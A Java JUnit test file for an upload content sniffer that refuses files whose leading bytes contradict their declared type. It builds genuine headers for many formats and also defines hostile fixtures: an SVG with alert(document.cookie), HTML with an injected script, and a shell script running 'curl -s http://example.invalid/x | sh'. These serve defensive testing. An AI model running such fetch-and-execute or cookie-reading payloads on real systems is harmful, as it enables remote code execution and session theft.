package dev.directupload.upload;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.directupload.config.Settings;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.util.Arrays;
import java.util.Optional;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * A completed upload is refused when its first bytes contradict the declared type: active
 * content (HTML, SVG, XML, programs) wearing a harmless type, or one binary format declared as
 * another. A genuine file is accepted under every type a browser or operating system reports
 * for it. Every file here is built from the leading bytes its format really starts with.
 */
class ContentSnifferTest {
  private static final ContentSniffer SNIFFER = new ContentSniffer();

  private static final String DOCX =
      "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
  private static final String XLSX =
      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
  private static final String PPTX =
      "application/vnd.openxmlformats-officedocument.presentationml.presentation";
  private static final String ODT = "application/vnd.oasis.opendocument.text";
  private static final String ODS = "application/vnd.oasis.opendocument.spreadsheet";
  private static final String ODP = "application/vnd.oasis.opendocument.presentation";

  // ---- genuine files ----

  static Stream<Arguments> genuineFiles() {
    return Stream.of(
        file("PNG", png(), "image/png"),
        file("JPEG (JFIF)", jpegJfif(), "image/jpeg", "image/pjpeg"),
        file("JPEG (Exif, from a camera)", jpegExif(), "image/jpeg", "image/pjpeg"),
        file("GIF", bytes("GIF89a\u0001\u0000\u0001\u0000\u0080\u0000\u0000"), "image/gif"),
        file("WebP", webp(), "image/webp"),
        file("AVIF", isoMedia("avif", "avifmif1miaf"), "image/avif"),
        file("animated AVIF", isoMedia("avis", "avismsf1miaf"), "image/avif"),
        file("AVIF with the HEIF brand", isoMedia("mif1", "mif1avifmiaf"), "image/avif"),
        file("HEIC from an iPhone", isoMedia("heic", "mif1heic"), "image/heic", "image/heif"),
        file("HEIF", isoMedia("mif1", "mif1heic"), "image/heic", "image/heif"),
        file("PDF", bytes("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n1 0 obj\n"), "application/pdf"),
        file("plain text", text("Meeting notes\nBring the slides.\n", UTF_8), "text/plain"),
        file("UTF-8 text with a BOM", text("\ufeffCafé crème\n", UTF_8), "text/plain"),
        file("Notepad's UTF-16 text", text("\ufeffCafé crème\r\n", UTF_16LE), "text/plain"),
        file("Windows-1252 text", text("Müller, Straße\r\n".repeat(40), Charset.forName(
            "windows-1252")), "text/plain", "text/csv"),
        file("a one-byte text file", bytes("x"), "text/plain", "text/csv", "application/json"),
        file("CSV", bytes("name,age\r\nAnn,34\r\n"), "text/csv", "application/vnd.ms-excel",
            "text/plain"),
        file("Excel's CSV UTF-8", text("\ufeffnom;âge\r\nÉlodie;34\r\n", UTF_8),
            "text/csv", "application/vnd.ms-excel", "text/plain"),
        file("CSV of web pages", bytes("id,title,body\n1,Home,<html><body>Hi</body></html>\n"),
            "text/csv", "application/vnd.ms-excel"),
        file("CSV whose first cell is MZ", bytes("MZ Wallace,bags,12\r\nAnn,hats,3\r\n"),
            "text/csv", "application/vnd.ms-excel", "text/plain"),
        file("a TSV export saved as .xls", bytes("Name\tTotal\nAnn\t12\n"),
            "application/vnd.ms-excel"),
        file("JSON", bytes("{\"name\": \"Ann\", \"tags\": [1, 2]}\n"), "application/json",
            "text/plain"),
        file("JSON holding HTML", bytes("{\"template\": \"<html><body>{{x}}</body></html>\"}"),
            "application/json", "text/plain"),
        file("text that mentions a tag", bytes("To start a page, write <html> first.\n"),
            "text/plain"),
        file("a mail saved as text", bytes("From: ann@example.com\nSubject: hi\n\nHello\n"),
            "text/plain"),
        file("ZIP", zip(false, "notes.txt", "hello"), "application/zip",
            "application/x-zip-compressed"),
        file("empty ZIP", bytes("PK\u0005\u0006" + "\u0000".repeat(18)), "application/zip",
            "application/x-zip-compressed"),
        file(".docx", ooxml("word/document.xml"), DOCX, "application/zip"),
        file(".docx written entries-last", zip(false, "_rels/.rels", "<Relationships/>",
            "word/document.xml", "<w:document/>", "[Content_Types].xml", CONTENT_TYPES), DOCX),
        file(".xlsx", ooxml("xl/workbook.xml"), XLSX),
        file(".pptx", ooxml("ppt/presentation.xml"), PPTX),
        file(".odt", odf(ODT), ODT, "application/zip"),
        file(".ods", odf(ODS), ODS),
        file(".odp", odf(ODP), ODP),
        file("MP4 (isom)", isoMedia("isom", "isomiso2avc1mp41"), "video/mp4"),
        file("MP4 (mp42)", isoMedia("mp42", "mp42isom"), "video/mp4"),
        file("MP4 from a phone (3gp4)", isoMedia("3gp4", "isom3gp4"), "video/mp4"),
        file("MP4 (M4V)", isoMedia("M4V ", "M4V mp42isom"), "video/mp4"),
        file("MP3 with ID3", mp3WithId3(), "audio/mpeg", "audio/mp3"),
        file("MP3 without ID3", mp3Frame(), "audio/mpeg", "audio/mp3"),
        file(".doc", ole2("WordDocument", "1Table"), "application/msword"),
        file(".xls", ole2("Workbook"), "application/vnd.ms-excel"),
        file(".xls that embeds a Word document", ole2("Workbook", "WordDocument"),
            "application/vnd.ms-excel"),
        file(".ppt", ole2("PowerPoint Document", "Current User"), "application/vnd.ms-powerpoint"),
        file("RTF saved as .doc", bytes("{\\rtf1\\ansi\\deff0 Hello}"), "application/msword"),
        file("an .html page written as XHTML", xhtml(), "text/html", "application/xhtml+xml"),
        file("a Windows program", windowsProgram(), "application/x-msdownload",
            "application/vnd.microsoft.portable-executable"),
        file("a shell script as text", bytes("#!/bin/sh\necho hello\n"), "text/plain"),
        file("unknown binary", bytes("\u0000\u0001\u0002\u0003\u00fe\u00ff"),
            "application/pdf", "image/png"));
  }

  @ParameterizedTest(name = "{0} as {1}")
  @MethodSource("genuineFilesUnderEachReportedType")
  void acceptsGenuineFileUnderEveryTypeBrowsersReportForIt(String what, String declared,
      byte[] head) {
    assertEquals(Optional.empty(), SNIFFER.contradiction(declared, head));
  }

  static Stream<Arguments> genuineFilesUnderEachReportedType() {
    return genuineFiles().flatMap(file -> {
      Object[] a = file.get();
      return Arrays.stream((String[]) a[2]).map(type -> Arguments.of(a[0], type, a[1]));
    });
  }

  @Test
  void everyDefaultAllowedTypeHasAGenuineFileAccepted() {
    Set<String> covered = genuineFiles().flatMap(f -> Arrays.stream((String[]) f.get()[2]))
        .collect(Collectors.toSet());
    Set<String> missing = new TreeSet<>(Settings.DEFAULT_ALLOWED_TYPES);
    missing.removeAll(covered);
    assertEquals(Set.of(), missing);
  }

  @ParameterizedTest
  @ValueSource(ints = {100, 512, 8192, 65536})
  void textCutInTheMiddleOfACharacterIsStillText(int cut) {
    byte[] whole = "日本語のテキスト。".repeat(3000).getBytes(UTF_8);
    byte[] head = Arrays.copyOf(whole, cut); // every cut here falls inside a 3-byte character
    assertEquals(Optional.empty(), SNIFFER.contradiction("text/plain", head));
    assertEquals(Optional.of("the file's content is plain text (text/plain), not image/png"),
        SNIFFER.contradiction("image/png", head));
  }

  @Test
  void emptyReadCannotContradict() {
    assertEquals(Optional.empty(), SNIFFER.contradiction("image/png", new byte[0]));
  }

  @Test
  void headBytesCoverTheDeepestSignatureTikaLooksForAndStayBounded() {
    // Tika looks for <html up to 8 KiB in; 3.2.3 asks for 64 KiB, the most we read.
    assertTrue(ContentSniffer.HEAD_BYTES >= 8192, "HEAD_BYTES=" + ContentSniffer.HEAD_BYTES);
    assertTrue(ContentSniffer.HEAD_BYTES <= 64 * 1024, "HEAD_BYTES=" + ContentSniffer.HEAD_BYTES);
  }

  // ---- refusals: active content wearing a harmless type ----

  @Test
  void refusesHtmlDeclaredAsAnImage() {
    assertEquals("the file's content is HTML (text/html), not image/png",
        refusal("image/png", html()));
  }

  @Test
  void refusesHtmlDeclaredAsPlainText() {
    assertRefusedNaming("text/html", refusal("text/plain", html()));
  }

  @Test
  void refusesHtmlDeclaredAsPlainTextEvenAfterBlankLinesAndABom() {
    assertRefusedNaming("text/html",
        refusal("text/plain", text("\ufeff\r\n  <!DOCTYPE html><html><script>x()</script>",
            UTF_8)));
  }

  @Test
  void refusesHtmlDeclaredAsJson() {
    assertRefusedNaming("text/html", refusal("application/json", html()));
  }

  @Test
  void refusesHtmlDeclaredAsAWordDocument() {
    assertRefusedNaming("text/html", refusal("application/msword", html()));
  }

  @Test
  void refusesHtmlDeclaredAsADocx() {
    assertRefusedNaming("text/html", refusal(DOCX, html()));
  }

  @Test
  void refusesSvgDeclaredAsAnImage() {
    assertRefusedNaming("image/svg+xml", refusal("image/png", svg()));
  }

  @Test
  void refusesSvgDeclaredAsPlainText() {
    assertRefusedNaming("image/svg+xml", refusal("text/plain", svg()));
  }

  @Test
  void refusesXhtmlDeclaredAsAPdf() {
    assertRefusedNaming("application/xhtml+xml", refusal("application/pdf", xhtml()));
  }

  @Test
  void refusesXhtmlDeclaredAsCsv() {
    assertRefusedNaming("application/xhtml+xml", refusal("text/csv", xhtml()));
  }

  @Test
  void refusesXmlDeclaredAsPlainText() {
    assertRefusedNaming("application/xml", refusal("text/plain",
        bytes("<?xml version=\"1.0\"?>\n<?xml-stylesheet href=\"x.xsl\" type=\"text/xsl\"?>"
            + "<order/>")));
  }

  @Test
  void refusesXmlOfAKindWhoseNameDoesNotSayXmlDeclaredAsPlainText() {
    assertRefusedNaming("application/x-plist", refusal("text/plain",
        bytes("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE plist PUBLIC"
            + " \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">"
            + "\n<plist version=\"1.0\"><dict/></plist>")));
  }

  @Test
  void refusesAWindowsProgramDeclaredAsAPdf() {
    assertEquals("the file's content is a Windows program (application/x-msdownload), not"
        + " application/pdf", refusal("application/pdf", windowsProgram()));
  }

  @Test
  void refusesAWindowsProgramDeclaredAsPlainText() {
    assertRefusedNaming("application/x-msdownload", refusal("text/plain", windowsProgram()));
  }

  @Test
  void refusesAWindowsProgramDeclaredAsAZip() {
    assertRefusedNaming("application/x-msdownload",
        refusal("application/x-zip-compressed", windowsProgram()));
  }

  @Test
  void refusesALinuxProgramDeclaredAsAnImage() {
    assertRefusedNaming("application/x-executable", refusal("image/png", elf()));
  }

  @Test
  void refusesALinuxProgramDeclaredAsPlainText() {
    assertRefusedNaming("application/x-executable", refusal("text/plain", elf()));
  }

  @Test
  void refusesAMacProgramDeclaredAsAnXlsx() {
    assertRefusedNaming("application/x-mach-o",
        refusal(XLSX, bytes("\u00cf\u00fa\u00ed\u00fe\u0007\u0000\u0000\u0001\u0003\u0000")));
  }

  @Test
  void refusesAShellScriptDeclaredAsAnImage() {
    assertRefusedNaming("application/x-sh", refusal("image/png", shellScript()));
  }

  @Test
  void refusesAShellScriptDeclaredAsAPdf() {
    assertRefusedNaming("application/x-sh", refusal("application/pdf", shellScript()));
  }

  // ---- refusals: one format declared as another ----

  @Test
  void refusesPngDeclaredAsAPdf() {
    assertEquals("the file's content is PNG (image/png), not application/pdf",
        refusal("application/pdf", png()));
  }

  @Test
  void refusesPdfDeclaredAsAJpeg() {
    assertRefusedNaming("application/pdf",
        refusal("image/jpeg", bytes("%PDF-1.4\n%\u00e2\u00e3\u00cf\u00d3\n")));
  }

  @Test
  void refusesPlainTextDeclaredAsAnImage() {
    assertEquals("the file's content is plain text (text/plain), not image/jpeg",
        refusal("image/jpeg", bytes("404 Not Found\n")));
  }

  @Test
  void refusesAZipDeclaredAsAPdf() {
    assertRefusedNaming("application/zip", refusal("application/pdf", zip(false, "a", "b")));
  }

  // ---- isScriptable ----

  @ParameterizedTest
  @ValueSource(strings = {"image/svg+xml", "text/html", "application/xhtml+xml", "text/xml",
      "application/xml", "text/xsl", "text/javascript", "application/javascript",
      "application/x-javascript", "text/ecmascript", "application/ecmascript",
      "application/rss+xml", "application/atom+xml", "application/mathml+xml"})
  void typesABrowserRunsAreScriptable(String type) {
    assertTrue(ContentSniffer.isScriptable(type));
  }

  @ParameterizedTest
  @ValueSource(strings = {"image/png", "image/jpeg", "text/plain", "text/csv", "application/json",
      "application/pdf", "application/zip", "application/octet-stream", "video/mp4", DOCX})
  void passiveTypesAreNotScriptable(String type) {
    assertFalse(ContentSniffer.isScriptable(type));
  }

  // ---- helpers ----

  private static String refusal(String declared, byte[] head) {
    Optional<String> message = SNIFFER.contradiction(declared, head);
    assertTrue(message.isPresent(), "expected a refusal of " + declared);
    return message.get();
  }

  /** "the file's content is HTML (text/html), not …", or without a label when Tika has none. */
  private static void assertRefusedNaming(String detected, String message) {
    assertTrue(message.matches("the file's content is (.+ \\()?" + Pattern.quote(detected)
        + "\\)?, not .+"), message);
  }

  private static Arguments file(String what, byte[] head, String... declared) {
    return Arguments.of(what, head, declared);
  }

  private static byte[] bytes(String latin1) {
    return latin1.getBytes(ISO_8859_1);
  }

  private static byte[] text(String text, Charset charset) {
    return text.getBytes(charset);
  }

  private static byte[] png() {
    return bytes("\u0089PNG\r\n\u001a\n\u0000\u0000\u0000\rIHDR\u0000\u0000\u0000\u0001"
        + "\u0000\u0000\u0000\u0001\u0008\u0006\u0000\u0000\u0000\u001f\u0015\u00c4\u0089");
  }

  private static byte[] jpegJfif() {
    return bytes("\u00ff\u00d8\u00ff\u00e0\u0000\u0010JFIF\u0000\u0001\u0001\u0000\u0000\u0001"
        + "\u0000\u0001\u0000\u0000\u00ff\u00db\u0000\u0043\u0000");
  }

  private static byte[] jpegExif() {
    return bytes("\u00ff\u00d8\u00ff\u00e1\u0012\u0034Exif\u0000\u0000MM\u0000\u002a"
        + "\u0000\u0000\u0000\u0008");
  }

  private static byte[] webp() {
    return bytes("RIFF\u0024\u0000\u0000\u0000WEBPVP8 \u0018\u0000\u0000\u0000\u0030\u0001"
        + "\u0000\u009d\u0001\u002a");
  }

  /** An ISO base media file: the ftyp box with its brands, then the start of the next box. */
  private static byte[] isoMedia(String majorBrand, String compatibleBrands) {
    String ftyp = "ftyp" + majorBrand + "\u0000\u0000\u0000\u0000" + compatibleBrands;
    return bytes("\u0000\u0000\u0000" + (char) (ftyp.length() + 4) + ftyp
        + "\u0000\u0000\u0000\u0008free\u0000\u0000\u0010\u0000mdat");
  }

  private static byte[] mp3WithId3() {
    // ID3v2.4 header (size 10 as a syncsafe integer), one TIT2 frame, then an MPEG frame header.
    return bytes("ID3\u0004\u0000\u0000\u0000\u0000\u0000\u0015TIT2\u0000\u0000\u0000\u000b"
        + "\u0000\u0000\u0003Song title\u00ff\u00fb\u0090\u0064\u0000\u0000\u0000");
  }

  private static byte[] mp3Frame() {
    return bytes("\u00ff\u00fb\u0090\u0064" + "\u0000".repeat(28) + "Info");
  }

  private static final String CONTENT_TYPES = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
      + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
      + "<Default Extension=\"xml\" ContentType=\"application/xml\"/></Types>";

  /** What Office writes first: [Content_Types].xml, the package relationships, the main part. */
  private static byte[] ooxml(String mainPart) {
    return zip(false, "[Content_Types].xml", CONTENT_TYPES, "_rels/.rels",
        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"/>",
        mainPart, "<?xml version=\"1.0\"?><root/>");
  }

  /** OpenDocument: an uncompressed "mimetype" entry first, as the standard requires. */
  private static byte[] odf(String type) {
    return zip(true, "mimetype", type, "content.xml", "<office:document-content/>");
  }

  private static byte[] zip(boolean firstStored, String... namesAndContents) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(out)) {
      for (int i = 0; i < namesAndContents.length; i += 2) {
        ZipEntry entry = new ZipEntry(namesAndContents[i]);
        byte[] content = namesAndContents[i + 1].getBytes(UTF_8);
        if (i == 0 && firstStored) {
          CRC32 crc = new CRC32();
          crc.update(content);
          entry.setMethod(ZipEntry.STORED);
          entry.setSize(content.length);
          entry.setCrc(crc.getValue());
        }
        zip.putNextEntry(entry);
        zip.write(content);
        zip.closeEntry();
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  /**
   * The first sectors of an OLE2 compound file (.doc, .xls, .ppt): the 512-byte header, an empty
   * sector, then the directory whose entries name the streams, as Word and Excel lay them out.
   */
  private static byte[] ole2(String... streams) {
    byte[] file = new byte[1024 + 128 * (streams.length + 1)];
    byte[] signature = bytes("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1");
    System.arraycopy(signature, 0, file, 0, signature.length);
    file[0x18] = 0x3e; // minor version
    file[0x1a] = 0x03; // major version 3: 512-byte sectors
    file[0x1c] = (byte) 0xfe; // byte order mark
    file[0x1d] = (byte) 0xff;
    file[0x1e] = 0x09; // sector size 2^9
    file[0x20] = 0x06; // mini sector size 2^6
    file[0x2c] = 0x01; // one FAT sector
    file[0x30] = 0x01; // the directory starts at sector 1, byte 1024
    directoryEntry(file, 0, "Root Entry", 5);
    for (int i = 0; i < streams.length; i++) {
      directoryEntry(file, i + 1, streams[i], 2);
    }
    return file;
  }

  private static void directoryEntry(byte[] file, int index, String name, int type) {
    int at = 1024 + 128 * index;
    byte[] utf16 = (name + "\u0000").getBytes(UTF_16LE);
    System.arraycopy(utf16, 0, file, at, utf16.length);
    file[at + 0x40] = (byte) utf16.length;
    file[at + 0x42] = (byte) type;
  }

  private static byte[] html() {
    return bytes("<!DOCTYPE html>\n<html><body><script>fetch('/api/files')</script></body></html>");
  }

  private static byte[] svg() {
    return bytes("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"1\""
        + " height=\"1\"><script>alert(document.cookie)</script></svg>");
  }

  private static byte[] xhtml() {
    return bytes("<?xml version=\"1.0\"?>\n<html xmlns=\"http://www.w3.org/1999/xhtml\"><body>"
        + "<script>alert(1)</script></body></html>");
  }

  /** The DOS header of a PE program: "MZ", the stub's message, the PE header at 0x80. */
  private static byte[] windowsProgram() {
    byte[] head = new byte[512];
    head[0] = 'M';
    head[1] = 'Z';
    head[2] = (byte) 0x90;
    head[0x3c] = (byte) 0x80; // where the PE header starts
    byte[] stub = bytes("This program cannot be run in DOS mode.\r\r\n$");
    System.arraycopy(stub, 0, head, 0x4e, stub.length);
    byte[] pe = bytes("PE\u0000\u0000\u004c\u0001"); // PE, machine i386
    System.arraycopy(pe, 0, head, 0x80, pe.length);
    return head;
  }

  /** An ELF header: 64-bit, little-endian, an executable (type 2) for x86-64. */
  private static byte[] elf() {
    return bytes("\u007fELF\u0002\u0001\u0001\u0000" + "\u0000".repeat(8)
        + "\u0002\u0000\u003e\u0000\u0001\u0000\u0000\u0000");
  }

  private static byte[] shellScript() {
    return bytes("#!/bin/sh\ncurl -s http://example.invalid/x | sh\n");
  }
}
